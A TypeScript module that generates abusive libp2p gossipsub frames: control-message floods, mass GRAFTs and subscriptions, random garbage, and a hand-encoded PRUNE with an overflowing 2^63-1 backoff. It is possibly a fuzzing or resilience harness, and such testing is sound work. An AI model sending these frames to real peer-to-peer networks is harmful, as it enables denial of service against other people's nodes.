import { randomBytes } from 'node:crypto'
import { RPC } from '@chainsafe/libp2p-gossipsub/message'

/** What nobody with manners says by gossip; each a frame of its own, again and again. */
export type GossipAbuse =
  | 'ihave'
  | 'iwant'
  | 'idontwant'
  | 'graft'
  | 'prune'
  | 'subscriptions'
  | 'garbage'

const idsPerFrame = 500
const subscriptionsPerFrame = 5_000
const messageIdBytes = 16

const ids = (): Uint8Array[] =>
  Array.from({ length: idsPerFrame }, () => randomBytes(messageIdBytes))

const control = (part: Partial<RPC.ControlMessage>): Uint8Array =>
  RPC.encode({
    subscriptions: [],
    messages: [],
    control: { ihave: [], iwant: [], graft: [], prune: [], idontwant: [], ...part },
  })

export const abuses: Readonly<Record<GossipAbuse, (topic: string) => Uint8Array>> = {
  ihave: (topicID) => control({ ihave: [{ topicID, messageIDs: ids() }] }),
  iwant: () => control({ iwant: [{ messageIDs: ids() }] }),
  idontwant: () => control({ idontwant: [{ messageIDs: ids() }] }),
  graft: (topicID) => control({ graft: Array.from({ length: 100 }, () => ({ topicID })) }),
  prune: pruneForEver,
  subscriptions: () =>
    RPC.encode({
      subscriptions: Array.from({ length: subscriptionsPerFrame }, (_, index) => ({
        subscribe: true,
        topic: `${index}/${randomBytes(4).toString('hex')}`,
      })),
      messages: [],
    }),
  garbage: () => randomBytes(300),
}

/** With a time to stay away of 2^63 - 1 seconds, which no number of ours can hold. */
function pruneForEver(topic: string): Uint8Array {
  const name = Buffer.from(topic)
  const backoff = Buffer.concat([Buffer.of(0x18), Buffer.alloc(8, 0xff), Buffer.of(0x7f)])
  const prune = Buffer.concat([Buffer.of(0x0a, name.length), name, backoff])
  const inControl = Buffer.concat([Buffer.of(0x22, prune.length), prune])
  return Buffer.concat([Buffer.of(0x1a, inControl.length), inControl])
}

export const messageOf = (topic: string, data: Uint8Array): Uint8Array =>
  RPC.encode({ subscriptions: [], messages: [{ topic, data }] })

/** Takes part in the mesh of a topic, so that it is passed what others are. */
export const subscribing = (topic: string): Uint8Array =>
  RPC.encode({
    subscriptions: [{ subscribe: true, topic }],
    messages: [],
    control: { ihave: [], iwant: [], graft: [{ topicID: topic }], prune: [], idontwant: [] },
  })
